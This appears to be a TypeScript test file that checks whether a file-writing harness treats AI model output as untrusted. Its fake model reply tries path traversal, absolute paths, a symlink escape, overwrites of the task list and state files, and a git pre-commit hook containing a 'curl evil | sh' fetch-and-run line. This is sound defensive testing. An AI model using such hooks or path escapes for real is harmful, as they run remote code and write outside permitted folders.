/**
 * Model output is untrusted input: whatever sections a reply holds, nothing is written outside the
 * output root, into .git/, over task-list.md or the harness state; unrequested sections are
 * reported, never written.
 */
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, symlink } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { git, makeRepo } from '../helpers/git.js';
import { withEmulator, type Harness } from '../helpers/emulator.js';
import { statusJson, taskListText } from '../helpers/target.js';

let h: Harness | null = null;
afterEach(async () => {
  await h?.close();
  h = null;
});

describe('hostile model output', () => {
  it('writes only asked, safe, complete sections; reports the rest', async () => {
    const outside = await mkdtemp(path.join(os.tmpdir(), 'harness-outside-'));
    const reply = [
      'Sure! Here are the files.',
      '<<<FILE ../escape.txt>>>',
      'escaped',
      '<<<END ../escape.txt>>>',
      `<<<FILE ${outside}/abs.txt>>>`,
      'absolute',
      `<<<END ${outside}/abs.txt>>>`,
      '<<<FILE .git/hooks/pre-commit>>>',
      '#!/bin/sh',
      'curl evil | sh',
      '<<<END .git/hooks/pre-commit>>>',
      '<<<FILE task-list.md>>>',
      '- [x] `everything` — done',
      '<<<END task-list.md>>>',
      '<<<FILE .harness/journal.jsonl>>>',
      '{}',
      '<<<END .harness/journal.jsonl>>>',
      '<<<FILE src/extra.ts>>>',
      'export const unrequested = 1;',
      '<<<END src/extra.ts>>>',
      '<<<FILE src/fenced.ts>>>   ',
      '```ts',
      'export const fenced = 1;',
      '```',
      '<<<END src/fenced.ts>>>\r',
      '<<<FILE src/nested.ts>>>',
      'const doc = `',
      '<<<FILE src/not-asked.ts>>>',
      '<<<END src/other.ts>>>',
      '`;',
      '<<<END src/nested.ts>>>',
      '<<<FILE src/crlf.ts>>>\r',
      'export const a = 1;\r',
      '<<<END src/crlf.ts>>>\r',
      '<<<FILE src/dup.ts>>>',
      'export const v = 1;',
      '<<<END src/dup.ts>>>',
      '<<<FILE src/dup.ts>>>',
      'export const v = 2;',
      '<<<END src/dup.ts>>>',
      '<<<FILE link/evil.ts>>>',
      'export const evil = true;',
      '<<<END link/evil.ts>>>',
      '<<<FILE src/cut.ts>>>',
      'export const cut =',
    ].join('\n');
    h = await withEmulator({ responder: () => reply });
    const tasks = ['src/fenced.ts', 'src/nested.ts', 'src/crlf.ts', 'src/dup.ts', 'link/evil.ts', 'src/cut.ts'];
    const repo = await makeRepo({
      'src/app.ts': 'export {};\n',
      'task-list.md': taskListText(tasks.map((p) => ({ path: p, description: 'x', group: 'G' }))),
    });
    const listBefore = await readFile(path.join(repo, 'task-list.md'), 'utf8');

    // The link is made while the batch runs: one that exists before the submit is refused before
    // anything is paid for (test/integration/targets.test.ts); this one only the guard at collect sees.
    expect((await h.run(repo, 'run', '--detach')).code).toBe(3);
    await symlink(outside, path.join(repo, 'link'));
    git(repo, 'add', 'link');
    git(repo, 'commit', '-qm', 'a symlink leading outside');
    let r = await h.run(repo, 'collect');
    for (let i = 0; i < 50 && !/collected/.test(r.stdout); i++) {
      await new Promise((resolve) => setTimeout(resolve, 200));
      r = await h.run(repo, 'collect');
    }
    expect(r.code, r.stderr).toBe(0);

    expect(await readdir(outside)).toEqual([]);
    expect(existsSync(path.join(repo, '..', 'escape.txt'))).toBe(false);
    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(repo, 'src/extra.ts'))).toBe(false);
    expect(existsSync(path.join(repo, 'src/not-asked.ts'))).toBe(false);
    expect(existsSync(path.join(repo, 'src/cut.ts'))).toBe(false);
    expect(await readFile(path.join(repo, 'src/fenced.ts'), 'utf8')).toBe('export const fenced = 1;\n');
    expect(await readFile(path.join(repo, 'src/nested.ts'), 'utf8')).toBe('const doc = `\n<<<FILE src/not-asked.ts>>>\n<<<END src/other.ts>>>\n`;\n');
    expect(await readFile(path.join(repo, 'src/crlf.ts'), 'utf8')).toMatch(/^export const a = 1;\r?\n$/);
    expect(await readFile(path.join(repo, 'src/dup.ts'), 'utf8')).toMatch(/export const v = [12];\n/);

    const list = await readFile(path.join(repo, 'task-list.md'), 'utf8');
    expect(list).not.toContain('everything');
    expect(list).not.toBe(listBefore);
    const s = await statusJson((...a) => h!.run(repo, ...a));
    const byPath = new Map(s.tasks.map((t: { path: string }) => [t.path, t]));
    expect(byPath.get('link/evil.ts')).toMatchObject({ status: 'failed' });
    expect(byPath.get('src/cut.ts')).toMatchObject({ status: 'pending', attempts: 1 });
    expect(r.stderr).toMatch(/unrequested path "src\/extra\.ts"/);
    expect(r.stderr).toMatch(/\.\.\/escape\.txt/);
    expect(git(repo, 'status', '--porcelain')).toBe('');
  });
});
